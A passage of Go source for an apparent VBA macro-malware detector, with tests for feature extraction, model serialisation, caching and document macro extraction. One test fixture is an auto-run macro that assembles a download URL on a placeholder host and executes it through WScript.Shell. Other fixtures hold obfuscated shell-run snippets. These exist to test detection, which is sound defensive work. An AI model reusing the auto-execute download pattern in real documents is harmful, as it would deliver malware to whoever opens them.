		for _, workers := range []int{1, 4} {
			det, err := NewDetector(algo, FeatureSetV, 7)
			if err != nil {
				t.Fatal(err)
			}
			det.SetWorkers(workers)
			if err := det.Train(d.Sources(), d.Labels()); err != nil {
				t.Fatal(err)
			}
			blob, err := det.SaveModel()
			if err != nil {
				t.Fatal(err)
			}
			blobs = append(blobs, blob)
		}
		if !bytes.Equal(blobs[0], blobs[1]) {
			t.Errorf("%s: 1-worker and 4-worker training produced different models", algo)
		}
	}
}

// TestFeaturizeAllParallelMatchesSequential asserts row i is always the
// vector of sources[i] regardless of worker count.
func TestFeaturizeAllParallelMatchesSequential(t *testing.T) {
	d := smallCorpus(t)
	sources := d.Sources()
	for _, fs := range []FeatureSet{FeatureSetV, FeatureSetJ} {
		seq := FeaturizeAll(fs, sources, 1)
		par := FeaturizeAll(fs, sources, 8)
		if len(seq) != len(par) {
			t.Fatalf("%s: %d vs %d rows", fs, len(seq), len(par))
		}
		for i := range seq {
			for k := range seq[i] {
				if seq[i][k] != par[i][k] {
					t.Fatalf("%s: row %d feature %d differs: %v vs %v", fs, i, k, seq[i][k], par[i][k])
				}
			}
		}
	}
}

// TestSaveModelHeaderJSON asserts the model header is built by real JSON
// marshaling: the blob is valid JSON whose header fields unmarshal to
// exactly the detector's feature set and algorithm, and the whole model
// survives a decode/re-encode round trip.
func TestSaveModelHeaderJSON(t *testing.T) {
	d := smallCorpus(t)
	det, err := NewDetector(AlgoRF, FeatureSetJ, 7)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Train(d.Sources(), d.Labels()); err != nil {
		t.Fatal(err)
	}
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	if !json.Valid(blob) {
		t.Fatal("SaveModel output is not valid JSON")
	}
	var head struct {
		FeatureSet string          `json:"featureSet"`
		Algorithm  string          `json:"algorithm"`
		Model      json.RawMessage `json:"model"`
	}
	if err := json.Unmarshal(blob, &head); err != nil {
		t.Fatal(err)
	}
	if head.FeatureSet != "J" || head.Algorithm != "rf" {
		t.Errorf("header = %q/%q, want J/rf", head.FeatureSet, head.Algorithm)
	}
	if len(head.Model) == 0 {
		t.Error("header carries no model payload")
	}
	// Decode → re-encode → load still yields a working detector.
	reencoded, err := json.Marshal(head)
	if err != nil {
		t.Fatal(err)
	}
	restored, err := LoadModel(reencoded)
	if err != nil {
		t.Fatal(err)
	}
	src := "Sub t()\nx = Chr(104) & Chr(105)\nEnd Sub\n"
	a, err := det.ClassifySource(src)
	if err != nil {
		t.Fatal(err)
	}
	b, err := restored.ClassifySource(src)
	if err != nil {
		t.Fatal(err)
	}
	if a.Score != b.Score {
		t.Errorf("scores differ after re-encode round trip: %v vs %v", a.Score, b.Score)
	}
}

// TestMacroAnalysisSharedParse asserts the single-parse object serves
// classification, both feature sets, triage and deobfuscation
// consistently with the one-shot APIs.
func TestMacroAnalysisSharedParse(t *testing.T) {
	src := `Sub AutoOpen()
Dim u As String
u = "ht" & "tp://" & "evil.example" & "/p.exe"
CreateObject("WScript.Shell").Run u
End Sub
`
	a := Analyze(src)
	if a.Source() != src {
		t.Error("Source mismatch")
	}
	if got, want := a.Features(FeatureSetV), (FeatureSetV).Extract(src); len(got) != len(want) {
		t.Fatalf("V dims: %d vs %d", len(got), len(want))
	} else {
		for i := range got {
			if got[i] != want[i] {
				t.Errorf("V[%d] = %v, want %v", i, got[i], want[i])
			}
		}
	}
	if got, want := a.Features(FeatureSetJ), (FeatureSetJ).Extract(src); len(got) != len(want) {
		t.Fatalf("J dims: %d vs %d", len(got), len(want))
	} else {
		for i := range got {
			if got[i] != want[i] {
				t.Errorf("J[%d] = %v, want %v", i, got[i], want[i])
			}
		}
	}
	rep := a.Triage()
	if !rep.HasAutoExec() || !rep.Suspicious() {
		t.Errorf("triage missed autoexec/suspicious: %+v", rep.Findings)
	}
	dres := a.Deobfuscate()
	if dres.Folds == 0 {
		t.Error("deobfuscation folded nothing")
	}
	found := false
	for _, s := range dres.Recovered {
		if s == "http://evil.example/p.exe" {
			found = true
		}
	}
	if !found {
		t.Errorf("URL not recovered: %v", dres.Recovered)
	}
}

// TestScanFileTimed asserts stage timings are populated and the report
// matches ScanFile.
func TestScanFileTimed(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	d := smallCorpus(t)
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	report, tm, err := det.ScanFileTimed(files[0].Data)
	if err != nil {
		t.Fatal(err)
	}
	if tm.ExtractNS <= 0 {
		t.Error("ExtractNS not measured")
	}
	if len(report.Macros) > 0 && (tm.FeaturizeNS <= 0 || tm.ClassifyNS <= 0) {
		t.Errorf("stage timings not measured: %+v", tm)
	}
	plain, err := det.ScanFile(files[0].Data)
	if err != nil {
		t.Fatal(err)
	}
	if len(plain.Macros) != len(report.Macros) || plain.Skipped != report.Skipped {
		t.Error("ScanFile and ScanFileTimed disagree")
	}
	for i := range plain.Macros {
		if plain.Macros[i].Score != report.Macros[i].Score {
			t.Errorf("macro %d score differs", i)
		}
		if plain.Macros[i].Analysis == nil {
			t.Error("verdict lost its shared analysis")
		}
	}
}
