package core

import (
	"testing"

	"repro/internal/cache"
)

// TestMacroCacheIdenticalVerdicts asserts that scanning the same document
// with and without a macro cache — including a warm second pass — yields
// byte-identical wire reports, and that the second pass is served from the
// cache with the shared analysis intact.
func TestMacroCacheIdenticalVerdicts(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	d := smallCorpus(t)
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}

	cold, err := det.ScanFile(files[0].Data)
	if err != nil {
		t.Fatal(err)
	}

	det.SetMacroCache(NewMacroCache(1024, 0))
	first, err := det.ScanFile(files[0].Data)
	if err != nil {
		t.Fatal(err)
	}
	second, err := det.ScanFile(files[0].Data)
	if err != nil {
		t.Fatal(err)
	}

	st := det.MacroCache().Stats()
	if st.Hits == 0 {
		t.Errorf("no cache hits on repeat scan: %+v", st)
	}
	if st.Misses == 0 || st.Entries == 0 {
		t.Errorf("cache never populated: %+v", st)
	}

	for name, got := range map[string]*FileReport{"cache-miss": first, "cache-hit": second} {
		if len(got.Macros) != len(cold.Macros) || got.Skipped != cold.Skipped {
			t.Fatalf("%s: report shape differs from uncached scan", name)
		}
		for i := range got.Macros {
			w, g := cold.Macros[i], got.Macros[i]
			if g.Module != w.Module || g.Obfuscated != w.Obfuscated ||
				g.Score != w.Score || g.Source != w.Source {
				t.Errorf("%s: macro %d verdict differs from uncached scan", name, i)
			}
			if g.Analysis == nil {
				t.Errorf("%s: macro %d lost its shared analysis", name, i)
			}
		}
	}
}

// TestMacroCacheNilDisabled asserts a nil cache is a clean no-op for every
// method the scan path calls.
func TestMacroCacheNilDisabled(t *testing.T) {
	var mc *MacroCache
	if st := mc.Stats(); st != (cache.Stats{}) {
		t.Errorf("nil cache stats not zero: %+v", st)
	}
	if NewMacroCache(0, 0) != nil {
		t.Error("NewMacroCache(0,0) should disable caching (nil)")
	}
	det := trainSmall(t, AlgoRF, FeatureSetV)
	det.SetMacroCache(nil)
	if _, err := det.ClassifySource("Sub a()\nx = 1\nEnd Sub\n"); err != nil {
		t.Fatal(err)
	}
}
