package core

import (
	"errors"
	"fmt"
	"strings"

	"repro/internal/features"
)

// FeatureSet selects which feature channels the detector computes: the
// paper's V or J lexical vectors, one of the auxiliary channels on its
// own, or the full multi-channel stack. Every set is a fixed ordered list
// of registry channels (features.Channel); the detector's vector is their
// concatenation.
type FeatureSet int

// Feature sets.
const (
	// FeatureSetV is the paper's proposed 15-feature set (Table IV).
	FeatureSetV FeatureSet = iota + 1
	// FeatureSetJ is the 20-feature comparison set from the JavaScript
	// obfuscation literature (Table VI).
	FeatureSetJ
	// FeatureSetEntropy is the windowed Shannon-entropy channel alone.
	FeatureSetEntropy
	// FeatureSetAPI is the suspicious-API/keyword channel alone.
	FeatureSetAPI
	// FeatureSetStack concatenates every channel (v, j, entropy, api) —
	// the input layout of the stacked ensemble.
	FeatureSetStack
)

// featureSetChannels maps each set to its ordered channel names.
var featureSetChannels = map[FeatureSet][]string{
	FeatureSetV:       {"v"},
	FeatureSetJ:       {"j"},
	FeatureSetEntropy: {"entropy"},
	FeatureSetAPI:     {"api"},
	FeatureSetStack:   {"v", "j", "entropy", "api"},
}

func (f FeatureSet) valid() bool {
	_, ok := featureSetChannels[f]
	return ok
}

// String names the feature set. V and J keep their historical uppercase
// spelling (persisted model headers depend on it); the new sets use their
// registry channel names.
func (f FeatureSet) String() string {
	switch f {
	case FeatureSetV:
		return "V"
	case FeatureSetJ:
		return "J"
	case FeatureSetEntropy:
		return "entropy"
	case FeatureSetAPI:
		return "api"
	case FeatureSetStack:
		return "stack"
	default:
		return fmt.Sprintf("FeatureSet(%d)", int(f))
	}
}

// ParseFeatureSet resolves a feature-set name (case-insensitive). It
// accepts the historical "V"/"J" spellings and the channel-style names.
func ParseFeatureSet(s string) (FeatureSet, error) {
	switch strings.ToLower(strings.TrimSpace(s)) {
	case "v":
		return FeatureSetV, nil
	case "j":
		return FeatureSetJ, nil
	case "entropy":
		return FeatureSetEntropy, nil
	case "api":
		return FeatureSetAPI, nil
	case "stack":
		return FeatureSetStack, nil
	default:
		return 0, fmt.Errorf("core: unknown feature set %q (want V, J, entropy, api or stack)", s)
	}
}

// FeatureSets lists every supported set, single channels first.
func FeatureSets() []FeatureSet {
	return []FeatureSet{FeatureSetV, FeatureSetJ, FeatureSetEntropy, FeatureSetAPI, FeatureSetStack}
}

// Channels returns the set's ordered channel list from the feature
// registry. Unknown sets yield nil.
func (f FeatureSet) Channels() []features.Channel {
	names := featureSetChannels[f]
	out := make([]features.Channel, 0, len(names))
	for _, n := range names {
		out = append(out, features.MustChannel(n))
	}
	return out
}

// Dim is the concatenated feature vector length.
func (f FeatureSet) Dim() int {
	d := 0
	for _, c := range f.Channels() {
		d += c.Dim()
	}
	return d
}

// FeatureNames labels every dimension of the concatenated vector, channel
// by channel in layout order.
func (f FeatureSet) FeatureNames() []string {
	var out []string
	for _, c := range f.Channels() {
		out = append(out, c.FeatureNames...)
	}
	return out
}

// CacheID is the feature set's cache identity: the set name plus every
// channel's name@version, in layout order. It salts macro- and
// document-level cache keys so entries computed under one channel layout
// (or extractor version) can never be served under another — a version
// bump turns would-be poisoned hits into clean misses.
func (f FeatureSet) CacheID() string {
	var sb strings.Builder
	sb.WriteString(f.String())
	for _, c := range f.Channels() {
		sb.WriteByte(':')
		sb.WriteString(c.ID())
	}
	return sb.String()
}

// vectorOf reads the set's concatenated vector out of a shared
// single-parse analysis. Single-channel sets return the channel's own
// slice (for V and J this is the exact historical extraction — models
// trained before the registry remain bit-compatible).
func (f FeatureSet) vectorOf(a *features.Analysis) []float64 {
	chans := f.Channels()
	if len(chans) == 1 {
		return chans[0].Extract(a)
	}
	out := make([]float64, 0, f.Dim())
	for _, c := range chans {
		out = append(out, c.Extract(a)...)
	}
	return out
}

// Extract computes the set's feature vector for one macro source.
func (f FeatureSet) Extract(src string) []float64 {
	return f.vectorOf(features.Analyze(src))
}

// ErrFeatureSkew is the sentinel wrapped by every FeatureSkewError;
// errors.Is(err, ErrFeatureSkew) identifies a model/binary channel
// mismatch wherever the load error surfaces.
var ErrFeatureSkew = errors.New("core: model feature channels do not match this binary")

// FeatureSkewError reports a mismatch between the channel layout recorded
// in a model snapshot and the feature registry compiled into this binary.
// Scoring through mismatched extractors would silently misclassify, so
// loading fails closed with this error instead.
type FeatureSkewError struct {
	// FeatureSet is the model's feature-set name.
	FeatureSet string
	// Channel is the first mismatched channel, when one is identifiable.
	Channel string
	// Reason describes the mismatch.
	Reason string
}

// Error implements error.
func (e *FeatureSkewError) Error() string {
	if e.Channel != "" {
		return fmt.Sprintf("core: feature skew in set %q, channel %q: %s", e.FeatureSet, e.Channel, e.Reason)
	}
	return fmt.Sprintf("core: feature skew in set %q: %s", e.FeatureSet, e.Reason)
}

// Unwrap ties the typed error to the ErrFeatureSkew sentinel.
func (e *FeatureSkewError) Unwrap() error { return ErrFeatureSkew }
