package core

import (
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"

	"repro/internal/cache"
	"repro/internal/cfb"
	"repro/internal/features"
	"repro/internal/ovba"
)

// buildDocWith wraps one macro source into a minimal OLE document.
func buildDocWith(t *testing.T, src string) []byte {
	t.Helper()
	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{Name: "Module1", Source: src}}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestParseFeatureSet(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want FeatureSet
	}{
		{"V", FeatureSetV}, {"v", FeatureSetV},
		{"J", FeatureSetJ}, {"j", FeatureSetJ},
		{"entropy", FeatureSetEntropy}, {"Entropy", FeatureSetEntropy},
		{"api", FeatureSetAPI}, {"API", FeatureSetAPI},
		{"stack", FeatureSetStack}, {" stack ", FeatureSetStack},
	} {
		got, err := ParseFeatureSet(tc.in)
		if err != nil || got != tc.want {
			t.Errorf("ParseFeatureSet(%q) = %v, %v; want %v", tc.in, got, err, tc.want)
		}
	}
	for _, bad := range []string{"", "w", "vj", "stacked"} {
		if _, err := ParseFeatureSet(bad); err == nil {
			t.Errorf("ParseFeatureSet(%q) accepted", bad)
		}
	}
}

func TestFeatureSetChannelsAndDims(t *testing.T) {
	vd, jd := len(features.VNames), len(features.JNames)
	ed := features.EntropyDim
	ad := features.APIDim
	for _, tc := range []struct {
		fs    FeatureSet
		chans []string
		dim   int
	}{
		{FeatureSetV, []string{"v"}, vd},
		{FeatureSetJ, []string{"j"}, jd},
		{FeatureSetEntropy, []string{"entropy"}, ed},
		{FeatureSetAPI, []string{"api"}, ad},
		{FeatureSetStack, []string{"v", "j", "entropy", "api"}, vd + jd + ed + ad},
	} {
		chans := tc.fs.Channels()
		var names []string
		for _, c := range chans {
			names = append(names, c.Name)
		}
		if !reflect.DeepEqual(names, tc.chans) {
			t.Errorf("%v channels = %v, want %v", tc.fs, names, tc.chans)
		}
		if got := tc.fs.Dim(); got != tc.dim {
			t.Errorf("%v dim = %d, want %d", tc.fs, got, tc.dim)
		}
		if got := len(tc.fs.FeatureNames()); got != tc.dim {
			t.Errorf("%v has %d feature names, want %d", tc.fs, got, tc.dim)
		}
		src := "Sub A()\nx = Chr(65)\nEnd Sub\n"
		if got := len(tc.fs.Extract(src)); got != tc.dim {
			t.Errorf("%v extract produced %d dims, want %d", tc.fs, got, tc.dim)
		}
	}
}

func TestFeatureSetStackConcatenation(t *testing.T) {
	src := "Sub Auto_Open()\nSet o = CreateObject(\"WScript.Shell\")\nEnd Sub\n"
	a := features.Analyze(src)
	got := FeatureSetStack.Extract(src)
	var want []float64
	want = append(want, a.V()...)
	want = append(want, a.J()...)
	want = append(want, a.EntropyChannel()...)
	want = append(want, a.APIChannel()...)
	if !reflect.DeepEqual(got, want) {
		t.Error("stack vector is not the channel concatenation")
	}
}

func TestFeatureSetCacheID(t *testing.T) {
	ids := map[string]bool{}
	for _, fs := range FeatureSets() {
		id := fs.CacheID()
		if id == "" || ids[id] {
			t.Errorf("CacheID %q empty or duplicated", id)
		}
		ids[id] = true
		if strings.ContainsRune(id, 0) {
			t.Errorf("CacheID %q contains NUL", id)
		}
	}
	if got := FeatureSetV.CacheID(); got != "V:v@1" {
		t.Errorf("V cache ID = %q", got)
	}
	if got := FeatureSetStack.CacheID(); got != "stack:v@1:j@1:entropy@1:api@1" {
		t.Errorf("stack cache ID = %q", got)
	}
}

// A model header without a channels record — what every pre-registry
// binary wrote — must still load for V/J and produce bit-identical
// verdicts; for any other feature set it must fail closed.
func TestLoadModelLegacyHeader(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	var head map[string]json.RawMessage
	if err := json.Unmarshal(blob, &head); err != nil {
		t.Fatal(err)
	}
	if _, ok := head["channels"]; !ok {
		t.Fatal("SaveModel writes no channels record")
	}
	delete(head, "channels")
	legacy, err := json.Marshal(head)
	if err != nil {
		t.Fatal(err)
	}
	restored, err := LoadModel(legacy)
	if err != nil {
		t.Fatalf("legacy V model rejected: %v", err)
	}
	src := "Sub q()\nx = Chr(1) & Chr(2) & Chr(3)\nEnd Sub\n" + strings.Repeat("' pad\n", 30)
	a, err := det.ClassifySource(src)
	if err != nil {
		t.Fatal(err)
	}
	b, err := restored.ClassifySource(src)
	if err != nil {
		t.Fatal(err)
	}
	if a.Score != b.Score || a.Obfuscated != b.Obfuscated {
		t.Errorf("legacy-loaded verdict diverges: %+v vs %+v", a, b)
	}

	// The same channel-less header claiming a post-registry feature set
	// must fail closed.
	head["featureSet"] = json.RawMessage(`"entropy"`)
	forged, err := json.Marshal(head)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := LoadModel(forged); !errors.Is(err, ErrFeatureSkew) {
		t.Errorf("channel-less entropy model: err = %v, want ErrFeatureSkew", err)
	}
}

// mutateChannels round-trips a saved model through JSON, rewriting its
// channels record.
func mutateChannels(t *testing.T, blob []byte, fn func([]modelChannel) []modelChannel) []byte {
	t.Helper()
	var head struct {
		FeatureSet string          `json:"featureSet"`
		Algorithm  string          `json:"algorithm"`
		Channels   []modelChannel  `json:"channels,omitempty"`
		Model      json.RawMessage `json:"model"`
	}
	if err := json.Unmarshal(blob, &head); err != nil {
		t.Fatal(err)
	}
	head.Channels = fn(head.Channels)
	out, err := json.Marshal(head)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestLoadModelFeatureSkew(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	cases := map[string]func([]modelChannel) []modelChannel{
		"version bump": func(cs []modelChannel) []modelChannel {
			cs[0].Version = 99
			return cs
		},
		"dim drift": func(cs []modelChannel) []modelChannel {
			cs[0].Dim++
			return cs
		},
		"wrong channel": func(cs []modelChannel) []modelChannel {
			cs[0].Name = "entropy"
			return cs
		},
		"extra channel": func(cs []modelChannel) []modelChannel {
			return append(cs, modelChannel{Name: "api", Version: 1, Dim: features.APIDim})
		},
	}
	for name, fn := range cases {
		mutated := mutateChannels(t, blob, fn)
		_, err := LoadModel(mutated)
		if !errors.Is(err, ErrFeatureSkew) {
			t.Errorf("%s: err = %v, want ErrFeatureSkew", name, err)
			continue
		}
		var skew *FeatureSkewError
		if !errors.As(err, &skew) {
			t.Errorf("%s: error not a *FeatureSkewError: %v", name, err)
		} else if skew.Error() == "" || skew.FeatureSet != "V" {
			t.Errorf("%s: malformed skew error %+v", name, skew)
		}
	}
	// Unmutated blob still loads.
	if _, err := LoadModel(blob); err != nil {
		t.Errorf("pristine model rejected: %v", err)
	}
}

func TestStackDetectorEndToEnd(t *testing.T) {
	det := trainSmall(t, AlgoStack, FeatureSetStack)
	obf := "Sub zz()\nx = Chr(104) & Chr(116) & Chr(116) & Chr(112)\nCreateObject(\"WScript.Shell\").Run x, 0\nEnd Sub\n"
	v, err := det.ClassifySource(obf)
	if err != nil {
		t.Fatal(err)
	}
	if v.Score < 0 || v.Score > 1 {
		t.Errorf("stack score %v outside [0,1]", v.Score)
	}

	// Snapshot round trip preserves verdicts exactly.
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	restored, err := LoadModel(blob)
	if err != nil {
		t.Fatal(err)
	}
	if restored.FeatureSet() != FeatureSetStack || restored.Algorithm() != AlgoStack {
		t.Errorf("restored meta: fs=%v algo=%v", restored.FeatureSet(), restored.Algorithm())
	}
	for _, src := range []string{
		obf,
		"Sub Report()\nFor i = 1 To 50\n  t = t + Cells(i, 2).Value\nNext i\nEnd Sub\n",
	} {
		a, err := det.ClassifySource(src)
		if err != nil {
			t.Fatal(err)
		}
		b, err := restored.ClassifySource(src)
		if err != nil {
			t.Fatal(err)
		}
		if a.Score != b.Score || a.Obfuscated != b.Obfuscated {
			t.Errorf("stack verdict diverges after round trip")
		}
	}

	// SaveModelCompiled for a stack falls back to the plain JSON form and
	// still loads.
	cblob, err := det.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := LoadModel(cblob); err != nil {
		t.Errorf("compiled-save stack model rejected: %v", err)
	}
}

func TestNewClassifierRejectsStack(t *testing.T) {
	if _, err := NewClassifier(AlgoStack, 1); err == nil {
		t.Error("NewClassifier must refuse AlgoStack (needs a channel layout)")
	}
}

// Two detectors over different feature sets sharing one macro cache must
// never serve each other's entries: the salted keys differ, so each
// detector's verdicts match a cache-free run exactly.
func TestMacroCacheFeatureSetIsolation(t *testing.T) {
	detV := trainSmall(t, AlgoRF, FeatureSetV)
	detE := trainSmall(t, AlgoRF, FeatureSetEntropy)
	if detV.FeatureSetID() == detE.FeatureSetID() {
		t.Fatal("distinct feature sets share a cache identity")
	}
	src := "Sub q()\nx = Chr(1) & Chr(2) & Chr(3) & Chr(4)\nEnd Sub\n" + strings.Repeat("' pad\n", 30)
	key1 := cache.KeyOfSaltedString(detV.FeatureSetID(), src)
	key2 := cache.KeyOfSaltedString(detE.FeatureSetID(), src)
	if key1 == key2 {
		t.Fatal("salted keys collide across feature sets")
	}

	shared := NewMacroCache(128, 0)
	detV.SetMacroCache(shared)
	detE.SetMacroCache(shared)
	doc := buildDocWith(t, src)

	// Scan with V first (fills the shared cache), then with entropy: the
	// entropy scan must miss V's entry and compute its own verdict.
	rv, err := detV.ScanFile(doc)
	if err != nil {
		t.Fatal(err)
	}
	re, err := detE.ScanFile(doc)
	if err != nil {
		t.Fatal(err)
	}
	detFresh := trainSmall(t, AlgoRF, FeatureSetEntropy)
	rf, err := detFresh.ScanFile(doc)
	if err != nil {
		t.Fatal(err)
	}
	if len(re.Macros) != 1 || len(rf.Macros) != 1 {
		t.Fatalf("macro counts %d/%d", len(re.Macros), len(rf.Macros))
	}
	if re.Macros[0].Score != rf.Macros[0].Score {
		t.Errorf("shared-cache entropy verdict %v != cache-free %v (poisoned by V entry %v)",
			re.Macros[0].Score, rf.Macros[0].Score, rv.Macros[0].Score)
	}
	// Both keys now live in the cache: 2 distinct entries, not 1 shared.
	if got := shared.Stats().Entries; got != 2 {
		t.Errorf("shared cache entries = %d, want 2", got)
	}
}

func TestKeyOfSaltedMatchesString(t *testing.T) {
	if cache.KeyOfSalted("s", []byte("payload")) != cache.KeyOfSaltedString("s", "payload") {
		t.Error("KeyOfSalted and KeyOfSaltedString disagree")
	}
	if cache.KeyOfSalted("a", []byte("b")) == cache.KeyOfSalted("ab", []byte("")) {
		t.Error("salt/payload boundary ambiguous")
	}
	if cache.KeyOfSalted("", []byte("x")) == cache.KeyOf([]byte("x")) {
		t.Error("salted key namespace overlaps unsalted")
	}
}
