// Package extract is the unified VBA macro extraction façade over the cfb,
// ovba and ooxml substrates — the functional equivalent of olevba, which
// the paper uses to pull 4,212 macros out of 2,537 Office files.
//
// It also implements the paper's preprocessing rules (§IV.B): duplicate
// elimination by normalized source and removal of insignificant macros
// shorter than 150 bytes.
package extract

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"strconv"
	"strings"

	"repro/internal/cfb"
	"repro/internal/hostile"
	"repro/internal/ooxml"
	"repro/internal/ovba"
	"repro/internal/telemetry"
)

// Format identifies the container format of an input file.
type Format int

// Container formats.
const (
	FormatUnknown Format = iota
	FormatOLE            // legacy .doc/.xls compound file
	FormatOOXML          // .docm/.xlsm ZIP package
)

// String returns the format name.
func (f Format) String() string {
	switch f {
	case FormatOLE:
		return "ole"
	case FormatOOXML:
		return "ooxml"
	default:
		return "unknown"
	}
}

// MinSignificantBytes is the paper's threshold below which macros are
// "only made up of comments or practice code" and are dropped (§IV.B).
const MinSignificantBytes = 150

// ErrNoMacros is returned by File for documents without a VBA project.
var ErrNoMacros = errors.New("extract: no VBA macros found")

// Macro is one extracted VBA module.
type Macro struct {
	// Module is the VBA module name.
	Module string
	// Source is the module source code.
	Source string
	// Doc reports whether the module is a document module (ThisDocument,
	// Sheet1, ...) rather than a standard module.
	Doc bool
}

// StreamError records a recoverable failure scoped to one stream or module
// of a document: the rest of the document was still extracted.
type StreamError struct {
	// Stream names the stream or module the failure is scoped to.
	Stream string
	// Err is the underlying error, classifiable with hostile.Classify.
	Err error
}

// Error implements the error interface.
func (e StreamError) Error() string { return fmt.Sprintf("stream %q: %v", e.Stream, e.Err) }

// Unwrap exposes the underlying error to errors.Is/errors.As.
func (e StreamError) Unwrap() error { return e.Err }

// Result is the outcome of extracting one file.
type Result struct {
	Format  Format
	Project string
	Macros  []Macro
	// StorageStrings are printable strings recovered from document
	// storage outside the macro code — UserForm streams and document
	// variables, the hiding places of the §VI.B.1 anti-analysis trick
	// (olevba's form-string scan).
	StorageStrings []string
	// Errors records per-stream failures that did not abort extraction.
	// When non-empty, Degraded is true and Macros holds what survived.
	Errors []StreamError
	// Degraded reports that extraction was partial: some streams or
	// modules were lost to corruption or budget limits.
	Degraded bool
}

// File sniffs the container format of data and extracts all VBA macros
// under the default resource budget (hostile.DefaultLimits). Returns
// ErrNoMacros when the file parses but has no VBA project.
func File(data []byte) (*Result, error) {
	return FileBudget(data, hostile.NewBudget(hostile.DefaultLimits()))
}

// FileBudget is File with an explicit resource budget, shared across every
// stage of the extraction (container walk, decompression, storage-string
// scan). On partially corrupted documents it returns a degraded Result —
// err == nil, Result.Degraded == true — listing the per-stream failures in
// Result.Errors so callers can score the surviving macros. It fails
// outright only when nothing was recoverable; budget-exhaustion errors
// (hostile.ExhaustsBudget) then outrank structural ones so quarantine
// decisions see the true cause. A nil budget disables the limits.
func FileBudget(data []byte, bud *hostile.Budget) (*Result, error) {
	return FileBudgetTraced(data, bud, nil)
}

// FileBudgetTraced is FileBudget recording sub-stage spans (ZIP part
// extraction, CFB parse, OVBA project read, storage-string scan) onto sp.
// A nil span disables tracing at zero cost.
func FileBudgetTraced(data []byte, bud *hostile.Budget, sp *telemetry.Span) (*Result, error) {
	switch {
	case ooxml.IsOOXML(data):
		// The ZIP package is one container level; the OLE blob inside it
		// is charged separately by fromOLE.
		if err := bud.EnterContainer(); err != nil {
			return nil, err
		}
		defer bud.ExitContainer()
		zsp := sp.Child("ooxml_unzip")
		zsp.SetBytes(int64(len(data)))
		vba, err := ooxml.ExtractVBAProjectBudget(data, bud)
		if err != nil {
			zsp.SetError(err, hostile.Classify(err))
			zsp.End()
			if errors.Is(err, ooxml.ErrNoVBAPart) {
				return nil, ErrNoMacros
			}
			return nil, err
		}
		zsp.Annotate("vba_part_bytes", strconv.Itoa(len(vba)))
		zsp.End()
		res, err := fromOLE(vba, bud, sp)
		if err != nil {
			return nil, err
		}
		res.Format = FormatOOXML
		return res, nil
	default:
		res, err := fromOLE(data, bud, sp)
		if err != nil {
			return nil, err
		}
		res.Format = FormatOLE
		return res, nil
	}
}

// fromOLE parses an OLE container (a .doc/.xls file or a vbaProject.bin
// blob) and reads its VBA project.
func fromOLE(data []byte, bud *hostile.Budget, sp *telemetry.Span) (*Result, error) {
	if err := bud.EnterContainer(); err != nil {
		return nil, err
	}
	defer bud.ExitContainer()
	csp := sp.Child("cfb_parse")
	csp.SetBytes(int64(len(data)))
	f, err := cfb.ParseBudget(data, bud)
	if err != nil {
		csp.SetError(err, hostile.Classify(err))
		csp.End()
		return nil, err
	}
	csp.End()
	root := findProjectRoot(f.Root)
	if root == nil {
		return nil, ErrNoMacros
	}
	// Lenient reading recovers modules from projects whose metadata
	// malware has corrupted (olevba behaves the same way).
	osp := sp.Child("ovba_decompress")
	p, err := ovba.ReadProjectLenientBudget(root, bud)
	if err != nil {
		osp.SetError(err, hostile.Classify(err))
		osp.End()
		if errors.Is(err, ovba.ErrNoVBAStorage) {
			return nil, ErrNoMacros
		}
		return nil, fmt.Errorf("extract: %w", err)
	}
	var srcBytes int64
	for _, m := range p.Modules {
		srcBytes += int64(len(m.Source))
	}
	osp.SetBytes(srcBytes)
	osp.Annotate("modules", strconv.Itoa(len(p.Modules)))
	if len(p.Issues) > 0 {
		osp.Annotate("stream_issues", strconv.Itoa(len(p.Issues)))
	}
	osp.End()
	res := &Result{Project: p.Name}
	for _, is := range p.Issues {
		res.Errors = append(res.Errors, StreamError{Stream: is.Stream, Err: is.Err})
	}
	for _, m := range p.Modules {
		// A single module whose source blows the per-macro cap is dropped
		// (recorded, not fatal): the rest of the project is still scored.
		if err := bud.CheckMacroSource(int64(len(m.Source))); err != nil {
			res.Errors = append(res.Errors, StreamError{Stream: m.Name, Err: err})
			continue
		}
		res.Macros = append(res.Macros, Macro{
			Module: m.Name,
			Source: m.Source,
			Doc:    m.Type == ovba.ModuleDocument,
		})
	}
	if len(res.Macros) == 0 && len(res.Errors) > 0 {
		return nil, fmt.Errorf("extract: no macros recovered: %w", worstStreamError(res.Errors))
	}
	res.Degraded = len(res.Errors) > 0
	ssp := sp.Child("storage_strings")
	res.StorageStrings = storageStrings(f.Root, root, bud)
	ssp.Annotate("strings", strconv.Itoa(len(res.StorageStrings)))
	ssp.End()
	return res, nil
}

// worstStreamError picks the error to surface when every module was lost:
// budget exhaustion outranks structural corruption, because it changes the
// caller's disposition (quarantine rather than reject).
func worstStreamError(errs []StreamError) error {
	for _, e := range errs {
		if hostile.ExhaustsBudget(e.Err) {
			return e
		}
	}
	return errs[0]
}

// storageStrings scans document storage outside the VBA code streams for
// printable strings: form-object streams (UserForm1/o) inside the project
// root and a document-variables stream at the file root. The budget's
// storage-string cap bounds the total collected; overflow is silently
// truncated (the features derived from these strings saturate anyway).
func storageStrings(fileRoot, projectRoot *cfb.Storage, bud *hostile.Budget) []string {
	var out []string
	add := func(runs []string) bool {
